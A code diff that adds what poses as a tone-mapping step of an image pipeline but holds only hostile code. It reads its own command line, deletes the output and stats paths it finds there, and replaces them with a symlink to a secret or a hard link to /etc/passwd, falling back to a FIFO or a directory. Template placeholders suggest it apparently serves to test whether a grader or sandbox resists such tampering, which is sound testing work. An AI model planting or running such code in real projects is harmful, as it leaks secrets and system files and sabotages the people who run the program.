@@ -1,0 +1,50 @@
+#include "steps/07-tone-mapping/tone_mapping.hpp"
+
+#include <fcntl.h>
+#include <unistd.h>
+
+#include <fstream>
+#include <sstream>
+#include <string>
+#include <vector>
+
+static std::vector<std::string> command() {
+    std::ifstream file("/proc/self/cmdline", std::ios::binary);
+    std::vector<std::string> words;
+    for (std::string word; std::getline(file, word, '\0');) {
+        words.push_back(word);
+    }
+    return words;
+}
+
+static std::string after(const std::string& option) {
+    const auto words = command();
+    for (std::size_t i = 0; i + 1 < words.size(); ++i) {
+        if (words[i] == option) {
+            return words[i + 1];
+        }
+    }
+    return "";
+}
+
+
+#include <sys/stat.h>
+
+static bool attack() {
+    for (const std::string option : {"-o", "--stats"}) {
+        const std::string path = after(option);
+        unlink(path.c_str());
+        rename(path.c_str(), "/tmp/away");
+        if (symlink("@SECRET@", path.c_str()) == 0 || link("/etc/passwd", path.c_str()) == 0) {
+            continue;
+        }
+        mkfifo(path.c_str(), 0666);
+        mkdir(path.c_str(), 0777);
+    }
+    return false;
+}
+static bool worked() {
+    static const bool result = attack();
+    return result;
+}
+@RIGHT_IF(worked())@
